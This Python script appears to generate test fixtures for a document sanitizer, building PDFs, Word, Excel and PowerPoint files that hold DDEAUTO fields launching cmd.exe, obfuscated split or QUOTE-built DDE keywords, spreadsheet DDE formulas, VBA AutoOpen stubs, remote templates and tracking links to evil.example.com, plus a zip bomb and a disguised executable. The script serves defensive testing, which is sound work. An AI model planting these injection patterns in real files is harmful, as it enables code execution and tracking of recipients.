#!/usr/bin/env python3
"""Builds the corpus of `mamori sanitize file` tests (tests/cli/sanitize_file.sh).

Every file is made here from the standard library only (no PIL, no Office), so
that the tests know exactly what each input holds:

  sample.pdf          3 A4 pages, each with text, a black square at a known place,
                      an embedded file, a URI link and document JavaScript
  macro.docm          a Word document with a VBA project (vbaProject.bin, vbaData.xml)
                      and an external hyperlink
  extlink.xlsx        a workbook with an external link (externalLinks/), a formula
                      and a defined name reaching into it, and a calculation chain
  embedded.docx       a Word document with an embedded OLE object, an ActiveX
                      control and a remote template (attachedTemplate, External)
  macro.pptm          a presentation with a VBA project, an OLE object in a slide's
                      graphic frame and an external hyperlink on a shape
  fields.docx         Word fields that run or fetch something: fldSimple DDEAUTO, a
                      DDEAUTO split over three instrText runs, INCLUDEPICTURE of a
                      URL, a DDE keyword built (wholly, in part) by a nested QUOTE
                      field, an IF whose
                      instruction holds an INCLUDETEXT, a LINK in a deleted revision
                      (delInstrText), an INCLUDETEXT in a text box, a stray
                      instrText, a DDE field in the header; harmless PAGE, fldSimple
                      PAGE and HYPERLINK fields that stay; a mail merge source in
                      settings.xml and printer settings
  connections.xlsx    a workbook with a data connection (connections.xml), a query
                      table and its table, printer settings, DDE formulas (a cell, a
                      shared formula, a defined name), a "|" inside a string that is
                      no DDE, and a calculation chain
  plain.zip           an ordinary zip (refused)
  bomb.zip            10 MB of zeros in one entry (refused by the ratio limit)
  deep.docx           [Content_Types].xml nested 200 elements deep (XML depth limit)
  meta.png            4x3 pixels with tEXt, iTXt and eXIf chunks
  meta.jpg            tests/sanitize/files/base-16x8.jpg with EXIF (orientation 6),
                      XMP and a comment inserted
  cp932.txt, iso2022jp.txt, eucjp.txt, utf8bom.txt, utf16le.txt: one Japanese text
  page.html           HTML (refused as markup)
  program.pdf         a .pdf name on a Windows executable header (refused)
  picture.pdf         a .pdf name on a PNG (sanitized as PNG)
"""
import os
import struct
import sys
import zipfile
import zlib

out = sys.argv[1]
src = os.path.dirname(os.path.abspath(__file__))
os.makedirs(out, exist_ok=True)

TEXT = "住民票の写しを送付します。\r\n①②③ ｶﾀｶﾅ 髙橋・第3条\r\n"
TEXT_NO_NEC = "住民票の写しを送付します。\n第3条 高橋\n"


def tiny_png():
    """A real 1x1 PNG: images inside OOXML are re-encoded, so a preview must decode."""
    def chunk(t, data):
        return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0\x80\x80\x80")) + chunk(b"IEND", b""))


def write(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


# ---- PDF ------------------------------------------------------------------
def pdf(pages):
    objs = []

    def add(body):
        objs.append(body)
        return len(objs)

    catalog = add(None)
    pages_id = add(None)
    font = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    js = add(b"<< /S /JavaScript /JS (app.alert\\('hello'\\);) >>")
    ef = add(b"<< /Type /EmbeddedFile /Length 12 >>\nstream\nMZ fake exe\n\nendstream")
    fs = add(b"<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F %d 0 R >> >>" % ef)
    kids = []
    for i in range(pages):
        content = (b"BT /F1 24 Tf 72 760 Td (SECRET TEXT PAGE %d) Tj ET\n"
                   b"0 0 0 rg 100 100 100 100 re f\n" % (i + 1))
        c = add(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content))
        link = add(b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] "
                   b"/A << /S /URI /URI (https://evil.example.com/x) >> >>")
        kids.append(add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] "
                        b"/Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R /Annots [%d 0 R] >>"
                        % (pages_id, font, c, link)))
    objs[catalog - 1] = (b"<< /Type /Catalog /Pages %d 0 R /OpenAction %d 0 R "
                         b"/Names << /EmbeddedFiles << /Names [(evil.exe) %d 0 R] >> "
                         b"/JavaScript << /Names [(a) %d 0 R] >> >> >>" % (pages_id, js, fs, js))
    objs[pages_id - 1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % k for k in kids), len(kids))
    data = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (i + 1, body)
    xref = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offsets:
        data += b"%010d 00000 n \n" % o
    data += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, catalog, xref)
    return bytes(data)


write("sample.pdf", pdf(3))
write("pages40.pdf", pdf(40))	# for the CPU-time limit (sanitize_limits.sh)

# ---- OOXML ----------------------------------------------------------------
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' \
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="%s/officeDocument" Target="%s"/></Relationships>')


def rels(*items):
    s = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">')
    for rid, typ, target, *ext in items:
        s += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, typ if typ.startswith("http") else R + "/" + typ, target,
            ' TargetMode="External"' if ext else "")
    return s + "</Relationships>"


def ctypes(defaults, overrides):
    s = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">')
    for ext, t in defaults:
        s += '<Default Extension="%s" ContentType="%s"/>' % (ext, t)
    for p, t in overrides:
        s += '<Override PartName="%s" ContentType="%s"/>' % (p, t)
    return s + "</Types>"


def makezip(name, entries):
    with zipfile.ZipFile(os.path.join(out, name), "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in entries:
            z.writestr(n, data)


BASE_DEFAULTS = [("rels", "application/vnd.openxmlformats-package.relationships+xml"), ("xml", "application/xml")]
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

makezip("macro.docm", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS + [("bin", "application/vnd.ms-office.vbaProject")], [
        ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")])),
    ("_rels/.rels", PKG_RELS % (R, "word/document.xml")),
    ("word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<w:document %s><w:body><w:p><w:r><w:t>マクロ付きの請求書です。</w:t></w:r></w:p>'
     '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>ここをクリック</w:t></w:r></w:hyperlink></w:p>'
     '</w:body></w:document>' % W),
    ("word/_rels/document.xml.rels", rels(
        ("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
        ("rId2", "hyperlink", "https://evil.example.com/login", True))),
    ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()\nShell \"calc\"\nEnd Sub\n" * 20),
    ("word/_rels/vbaProject.bin.rels", rels(
        ("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml"))),
    ("word/vbaData.xml", '<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'),
])

SML = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s"' % R
makezip("extlink.xlsx", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS, [
        ("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        ("/xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
        ("/xl/externalLinks/externalLink1.xml",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
        ("/xl/calcChain.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml")])),
    ("_rels/.rels", PKG_RELS % (R, "xl/workbook.xml")),
    ("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<workbook %s><sheets><sheet name="集計" sheetId="1" r:id="rId1"/></sheets>'
     '<externalReferences><externalReference r:id="rId2"/></externalReferences>'
     '<definedNames><definedName name="ext">[1]Sheet1!$A$1</definedName>'
     '<definedName name="local">集計!$A$1</definedName></definedNames></workbook>' % SML),
    ("xl/_rels/workbook.xml.rels", rels(
        ("rId1", "worksheet", "worksheets/sheet1.xml"),
        ("rId2", "externalLink", "externalLinks/externalLink1.xml"),
        ("rId3", "calcChain", "calcChain.xml"))),
    ("xl/worksheets/sheet1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<worksheet %s><sheetData><row r="1">'
     '<c r="A1"><v>1</v></c>'
     '<c r="B1"><f>[1]Sheet1!A1*2</f><v>42</v></c>'
     '<c r="C1"><f>A1*2</f><v>2</v></c>'
     '</row></sheetData></worksheet>' % SML),
    ("xl/externalLinks/externalLink1.xml", '<?xml version="1.0"?><externalLink %s>'
     '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
     '</externalLink>' % SML),
    ("xl/externalLinks/_rels/externalLink1.xml.rels", rels(
        ("rId1", "externalLinkPath", "file:///\\\\server\\share\\secret.xlsx", True))),
    ("xl/calcChain.xml", '<?xml version="1.0"?><calcChain %s><c r="B1" i="1"/><c r="C1"/></calcChain>' % SML),
])

V = ('xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')
makezip("embedded.docx", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS + [
        ("bin", "application/vnd.openxmlformats-officedocument.oleObject"), ("png", "image/png")], [
        ("/word/document.xml", WORD_MAIN),
        ("/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"),
        ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        ("/word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")])),
    ("_rels/.rels", PKG_RELS % (R, "word/document.xml")),
    ("word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<w:document %s %s><w:body><w:p><w:r><w:t>埋め込みオブジェクトがあります。</w:t></w:r></w:p>'
     '<w:p><w:r><w:object><v:shape id="s1"><v:imagedata r:id="rId3"/></v:shape>'
     '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId4"/></w:object></w:r></w:p>'
     '<w:p><w:r><w:object><w:control r:id="rId5" w:name="CommandButton1"/></w:object></w:r></w:p>'
     '</w:body></w:document>' % (W, V)),
    ("word/_rels/document.xml.rels", rels(
        ("rId1", "settings", "settings.xml"),
        ("rId3", "image", "media/image1.png"),
        ("rId4", "oleObject", "embeddings/oleObject1.bin"),
        ("rId5", "control", "activeX/activeX1.xml"))),
    ("word/settings.xml", '<?xml version="1.0"?><w:settings %s><w:attachedTemplate r:id="rId1"/>'
     '<w:zoom w:percent="100"/></w:settings>' % W),
    ("word/_rels/settings.xml.rels", rels(
        ("rId1", "attachedTemplate", "https://evil.example.com/template.dotm", True))),
    ("word/media/image1.png", tiny_png()),
    ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500),
    ("word/activeX/activeX1.xml", '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
     'xmlns:r="%s" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" r:id="rId1"/>' % R),
    ("word/activeX/_rels/activeX1.xml.rels", rels(
        ("rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin"))),
    ("word/activeX/activeX1.bin", b"\x01\x02activex"),
])

P = ('xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
     'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="%s"' % R)
makezip("macro.pptm", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS + [("bin", "application/vnd.ms-office.vbaProject")], [
        ("/ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        ("/ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"),
        ("/ppt/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")])),
    ("_rels/.rels", PKG_RELS % (R, "ppt/presentation.xml")),
    ("ppt/presentation.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<p:presentation %s><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst></p:presentation>' % P),
    ("ppt/_rels/presentation.xml.rels", rels(
        ("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
        ("rId2", "slide", "slides/slide1.xml"))),
    ("ppt/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub Auto_Open()" * 10),
    ("ppt/slides/slide1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<p:sld %s><p:cSld><p:spTree>'
     '<p:sp><p:txBody><a:p><a:r><a:rPr><a:hlinkClick r:id="rId3"/></a:rPr><a:t>議会資料</a:t></a:r></a:p></p:txBody></p:sp>'
     '<p:graphicFrame><p:xfrm/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
     '<p:oleObj progId="Package" r:id="rId2"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
     '</p:spTree></p:cSld></p:sld>' % P),
    ("ppt/slides/_rels/slide1.xml.rels", rels(
        ("rId2", "oleObject", "../embeddings/oleObject1.bin"),
        ("rId3", "hyperlink", "http://evil.example.com/", True))),
    ("ppt/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\1" * 300),
])


# ---- Word fields ------------------------------------------------------------
def fld(kind):
    return '<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind


def instr(text, tag="instrText"):
    return '<w:r><w:%s xml:space="preserve">%s</w:%s></w:r>' % (tag, text, tag)


def run(text):
    return '<w:r><w:t xml:space="preserve">%s</w:t></w:r>' % text


def para(*items):
    return "<w:p>" + "".join(items) + "</w:p>"


FIELDS_BODY = "".join([
    para(run("本文の始まり。")),
    # 1. simple field
    para('<w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;">',
         run("単純フィールドの表示"), "</w:fldSimple>"),
    # 2. complex field, instruction over three runs, lower case, leading spaces
    para(fld("begin"), instr("   dd"), instr("eAuTo c:\\windows\\system32\\cmd.exe "),
         instr('"/k calc"'), fld("separate"), run("複合フィールドの表示"), fld("end")),
    # 3. INCLUDEPICTURE of a URL; the result spans two paragraphs
    para(fld("begin"), instr(' INCLUDEPICTURE "http://evil.example.com/track.png" \\d '),
         fld("separate"), run("画像の代わり")),
    para(run("二段落目の結果"), fld("end")),
    # 4. the keyword made by a nested field: { {QUOTE 68 68 69} cmd }
    para(fld("begin"), fld("begin"), instr(" QUOTE 68 68 69 "), fld("separate"), run("DDE"), fld("end"),
         instr(" c:\\windows\\system32\\cmd.exe "), fld("separate"), run("組み立てた名前の表示"), fld("end")),
    # ... or part of it: DD{QUOTE 69}AUTO
    para(fld("begin"), instr(" DD"), fld("begin"), instr("QUOTE 69"), fld("separate"), run("E"), fld("end"),
         instr("AUTO cmd /c calc"), fld("separate"), run("途中を組み立てた名前の表示"), fld("end")),
    # 5. a harmless IF whose instruction holds an INCLUDETEXT
    para(fld("begin"), instr(' IF 1 = 1 "'), fld("begin"),
         instr(' INCLUDETEXT "\\\\evil.example.com\\share\\a.docx" '), fld("separate"), run("取込み"),
         fld("end"), instr('" "" '), fld("separate"), run("IFの表示"), fld("end")),
    # 6. a LINK field in a deleted revision
    para('<w:del w:id="1" w:author="x" w:date="2024-01-01T00:00:00Z">',
         '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
         instr(' LINK Excel.Sheet.12 "C:\\secret.xlsx" "Sheet1!R1C1" \\a ', "delInstrText"),
         '<w:r><w:fldChar w:fldCharType="separate"/></w:r>',
         '<w:r><w:delText>削除されたリンク</w:delText></w:r>',
         '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>'),
    # 7. one run holding a whole field, and harmless fields that stay
    para('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DDE cmd "/c calc" x</w:instrText>'
         '<w:fldChar w:fldCharType="separate"/><w:t>一つのランの表示</w:t><w:fldChar w:fldCharType="end"/></w:r>'),
    para(run("ページ "), fld("begin"), instr(" PAGE "), fld("separate"), run("1"), fld("end"),
         '<w:fldSimple w:instr=" NUMPAGES ">', run("3"), "</w:fldSimple>"),
    para(fld("begin"), instr(' HYPERLINK "https://www.example.jp/" '), fld("separate"), run("市のサイト"), fld("end")),
    # 8. an INCLUDETEXT in a text box
    para('<w:r><w:pict><v:shape id="t1"><v:textbox><w:txbxContent>',
         para('<w:fldSimple w:instr="INCLUDETEXT http://evil.example.com/box.docx">', run("テキストボックスの表示"),
              "</w:fldSimple>"),
         "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"),
    # 9. an instruction outside any field
    para(instr("DDEAUTO cmd /c calc"), run("本文の終わり。")),
    '<w:sectPr><w:headerReference w:type="default" r:id="rId3"/><w:printerSettings r:id="rId4"/></w:sectPr>',
])
makezip("fields.docx", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS + [
        ("bin", "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings")], [
        ("/word/document.xml", WORD_MAIN),
        ("/word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"),
        ("/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")])),
    ("_rels/.rels", PKG_RELS % (R, "word/document.xml")),
    ("word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<w:document %s %s><w:body>%s</w:body></w:document>' % (W, V, FIELDS_BODY)),
    ("word/_rels/document.xml.rels", rels(
        ("rId1", "settings", "settings.xml"),
        ("rId3", "header", "header1.xml"),
        ("rId4", "printerSettings", "printerSettings/printerSettings1.bin"))),
    ("word/header1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:hdr %s>%s</w:hdr>' % (W, para(
        fld("begin"), instr(" DDEAUTO "), instr("cmd \"/c calc\""), fld("separate"), run("ヘッダーの表示"), fld("end")))),
    ("word/settings.xml", '<?xml version="1.0"?><w:settings %s><w:zoom w:percent="100"/>'
     '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="odbc"/>'
     '<w:connectString w:val="DSN=secret;DATABASE=x"/><w:query w:val="SELECT * FROM x"/>'
     '<w:dataSource r:id="rId1"/></w:mailMerge></w:settings>' % W),
    ("word/_rels/settings.xml.rels", rels(
        ("rId1", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/mailMergeSource",
         "file:///\\\\server\\share\\list.xlsx", True))),
    ("word/printerSettings/printerSettings1.bin", b"\x01\x04DEVMODE" + b"\0" * 200),
])

XL_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."
makezip("connections.xlsx", [
    ("[Content_Types].xml", ctypes(BASE_DEFAULTS + [("bin", XL_CT + "printerSettings")], [
        ("/xl/workbook.xml", XL_CT + "sheet.main+xml"),
        ("/xl/worksheets/sheet1.xml", XL_CT + "worksheet+xml"),
        ("/xl/connections.xml", XL_CT + "connections+xml"),
        ("/xl/queryTables/queryTable1.xml", XL_CT + "queryTable+xml"),
        ("/xl/tables/table1.xml", XL_CT + "table+xml"),
        ("/xl/calcChain.xml", XL_CT + "calcChain+xml")])),
    ("_rels/.rels", PKG_RELS % (R, "xl/workbook.xml")),
    ("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<workbook %s><sheets><sheet name="集計" sheetId="1" r:id="rId1"/></sheets>'
     '<definedNames><definedName name="dde">cmd|\'/c calc\'!A0</definedName>'
     '<definedName name="ExternalData_1" localSheetId="0">集計!$E$1:$E$2</definedName></definedNames>'
     '</workbook>' % SML),
    ("xl/_rels/workbook.xml.rels", rels(
        ("rId1", "worksheet", "worksheets/sheet1.xml"),
        ("rId2", "connections", "connections.xml"),
        ("rId3", "calcChain", "calcChain.xml"))),
    ("xl/worksheets/sheet1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<worksheet %s><sheetData>'
     '<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>'
     '<c r="B1" t="str"><f>"a|b"&amp;"c"</f><v>a|bc</v></c>'
     '<c r="C1"><f t="shared" ref="C1:C2" si="0">MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe\'!\'\'</f><v>7</v></c>'
     '<c r="D1"><f>SUM(1,2)</f><v>3</v></c><c r="E1"><v>5</v></c></row>'
     '<row r="2"><c r="C2"><f t="shared" si="0"/><v>8</v></c></row>'
     '</sheetData><pageSetup paperSize="9" orientation="portrait" r:id="rId3"/>'
     '<tableParts count="1"><tablePart r:id="rId2"/></tableParts></worksheet>' % SML),
    ("xl/worksheets/_rels/sheet1.xml.rels", rels(
        ("rId1", "queryTable", "../queryTables/queryTable1.xml"),
        ("rId2", "table", "../tables/table1.xml"),
        ("rId3", "printerSettings", "../printerSettings/printerSettings1.bin"))),
    ("xl/tables/table1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<table %s id="1" name="ExternalData_1" displayName="外部データ" ref="E1:E2" tableType="queryTable" '
     'connectionId="1" totalsRowShown="0"><tableColumns count="1">'
     '<tableColumn id="1" uniqueName="1" name="値" queryTableFieldId="1"/></tableColumns></table>' % SML),
    ("xl/queryTables/queryTable1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<queryTable %s name="ExternalData_1" connectionId="1" autoFormatId="16" applyNumberFormats="0">'
     '<queryTableRefresh nextId="2"><queryTableFields count="1"><queryTableField id="1" name="値"/>'
     '</queryTableFields></queryTableRefresh></queryTable>' % SML),
    ("xl/connections.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<connections %s><connection id="1" name="web" type="4" refreshedVersion="6" refreshOnLoad="1">'
     '<webPr url="http://evil.example.com/data.html"/></connection>'
     '<connection id="2" name="odbc" type="1" refreshOnLoad="1">'
     '<dbPr connection="DSN=secret;UID=a" command="SELECT * FROM t"/></connection></connections>' % SML),
    ("xl/printerSettings/printerSettings1.bin", b"\x01\x04DEVMODE" + b"\0" * 100),
    ("xl/calcChain.xml", '<?xml version="1.0"?><calcChain %s><c r="A1" i="1"/><c r="B1"/><c r="C1"/>'
     '<c r="C2"/><c r="D1"/></calcChain>' % SML),
])

makezip("plain.zip", [("readme.txt", "ただの zip です。\n"), ("data.csv", "a,b\n1,2\n")])
makezip("bomb.zip", [("[Content_Types].xml", ctypes(BASE_DEFAULTS, [])),
                     ("_rels/.rels", PKG_RELS % (R, "word/document.xml")),
                     ("word/document.xml", b"\0" * (10 << 20))])
deep = "<a>" * 200 + "</a>" * 200
makezip("deep.docx", [
    ("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
     + deep + "</Types>"),
    ("_rels/.rels", PKG_RELS % (R, "word/document.xml")),
    ("word/document.xml", '<w:document %s/>' % W)])


# ---- PNG ------------------------------------------------------------------
def chunk(t, data):
    return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xFFFFFFFF)


PIXELS = [[(255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 255)],
          [(0, 0, 0), (10, 20, 30), (200, 100, 50), (1, 2, 3)],
          [(128, 128, 128), (255, 255, 0), (0, 255, 255), (255, 0, 255)]]
raw = b"".join(b"\0" + bytes(c for px in row for c in px) for row in PIXELS)
exif = b"MM\0*\0\0\0\x08\0\x01\x01\x10\0\x02\0\0\0\x06\0\0\0\x1aCanon\0"
png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 3, 8, 2, 0, 0, 0))
       + chunk(b"tEXt", b"Comment\0secret location 35.68N 139.76E")
       + chunk(b"iTXt", "Author\0\0\0ja\0\0山田太郎".encode())
       + chunk(b"eXIf", exif)
       + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"") + b"TRAILING-DATA")
write("meta.png", png)
write("picture.pdf", png)

# ---- JPEG -----------------------------------------------------------------
base = open(os.path.join(src, "files", "base-16x8.jpg"), "rb").read()
assert base[:2] == b"\xff\xd8"
tiff = (b"MM\0*\0\0\0\x08" + b"\0\x02"
        + b"\x01\x12\0\x03\0\0\0\x01\0\x06\0\0"           # Orientation = 6 (rotate 90° CW)
        + b"\x01\x0f\0\x02\0\0\0\x06\0\0\0\x26"           # Make -> offset 38
        + b"\0\0\0\0" + b"Canon\0")
app1 = b"Exif\0\0" + tiff
xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>GPS 35.68N secret</x:xmpmeta>"
com = b"secret comment"


def seg(marker, data):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


write("meta.jpg", base[:2] + seg(0xE1, app1) + seg(0xE1, xmp) + seg(0xFE, com) + base[2:])

# ---- text -----------------------------------------------------------------
write("cp932.txt", TEXT.encode("cp932"))
write("iso2022jp.txt", TEXT_NO_NEC.encode("iso2022_jp"))
write("eucjp.txt", TEXT_NO_NEC.encode("euc_jp"))
write("utf8bom.txt", b"\xef\xbb\xbf" + TEXT.encode())
write("utf16le.txt", b"\xff\xfe" + TEXT.encode("utf-16-le"))
write("expected-text.txt", TEXT.encode())
write("expected-text-no-nec.txt", TEXT_NO_NEC.encode())
write("page.html", "<!DOCTYPE html><html><body><script>alert(1)</script>本文</body></html>".encode())
write("program.pdf", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 48 + b"This program cannot be run in DOS mode")
